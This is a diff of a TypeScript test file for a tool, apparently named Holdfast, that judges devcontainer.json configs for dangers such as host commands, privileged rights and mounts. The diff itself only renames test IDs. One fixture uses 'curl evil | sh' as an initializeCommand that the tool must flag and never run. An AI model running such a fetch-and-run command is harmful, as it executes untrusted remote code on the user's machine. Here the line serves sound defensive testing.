@@ -8,13 +8,13 @@ import { dangersOf, judge, type DevcontainerConfig } from "./judge.ts";
 const around = { worktree: "/w/app", home: "/home/u", hidden: ["/home/u/.local/state/holdfast"] };
 const dangers = (config: DevcontainerConfig): string[] => judge(config, around).dangers;
 
-test("[NET-21] comments and trailing commas of a devcontainer.json are read, strings stay as they are", () => {
+test("[NETWORK-12] comments and trailing commas of a devcontainer.json are read, strings stay as they are", () => {
   const text = '\uFEFF{ // "a": 1\n "image": "x//y /* z */", /* "b": 2,\n */ "list": [1, 2,], "quote": "\\"//", }';
   expect(parseJsonc(text)).toEqual({ image: "x//y /* z */", list: [1, 2], quote: '"//' });
   expect(() => parseJsonc("{ nothing }")).toThrow(SyntaxError);
 });
 
-test("[NET-22] the question names commands, images and features, and each way out of the container", () => {
+test("[NETWORK-13] the question names commands, images and features, and each way out of the container", () => {
   expect(
     judge({ image: "debian", postCreateCommand: ["npm", "ci"], features: { "ghcr.io/x/y:1": {} } }, around).does,
   ).toEqual([
@@ -53,7 +53,7 @@ test("[NET-22] the question names commands, images and features, and each way ou
   ]);
 });
 
-test("[NET-22] a command that would run on this machine is named and never run", () => {
+test("[NETWORK-13] a command that would run on this machine is named and never run", () => {
   const config = { image: "x", initializeCommand: "curl evil | sh", workspaceMount: "source=/,target=/w" };
   expect(question(judge(config, around))).toContain(
     "initializeCommand, which would run on this machine: curl evil | sh",
@@ -73,7 +73,7 @@ test("[NET-22] a command that would run on this machine is named and never run",
   expect(() => bindMount("/a,readonly=false", "/b")).toThrow("comma");
 });
 
-test("[NET-22] Compose, builds from outside of the repository and mounts of Holdfast's own files are refused", () => {
+test("[NETWORK-13] Compose, builds from outside of the repository and mounts of Holdfast's own files are refused", () => {
   const refused = (config: DevcontainerConfig) => judge(config, around).unsupported;
   expect(refused({ dockerComposeFile: "compose.yaml" })[0]).toContain("Compose");
   expect(refused({ build: { dockerfile: "Dockerfile", context: "../.." } })[0]).toContain("outside the repository");
@@ -86,7 +86,7 @@ test("[NET-22] Compose, builds from outside of the repository and mounts of Hold
   expect(refused({ mounts: ["source=${localWorkspaceFolder}/x,target=/x,type=bind"] })[0]).toContain("of the worktree");
 });
 
-test("[NET-24] rights that an image or a feature added are found in the container itself", () => {
+test("[NETWORK-15] rights that an image or a feature added are found in the container itself", () => {
   const seen = {
     HostConfig: {
       Privileged: true,
@@ -121,7 +121,7 @@ test("[NET-24] rights that an image or a feature added are found in the containe
   expect(dangersOf({ HostConfig: { NetworkMode: "none" }, Mounts: [] }, { ...around, ours: [] })).toEqual([]);
 });
 
-test("[NET-21] a repository without a devcontainer.json, and one that is not trusted, are errors with the next step", () => {
+test("[NETWORK-12] a repository without a devcontainer.json, and one that is not trusted, are errors with the next step", () => {
   const worktree = mkdtempSync(join(tmpdir(), "hf-dev-"));
   try {
     expect(() => findConfig(worktree)).toThrow("The repository has no .devcontainer/devcontainer.json.");
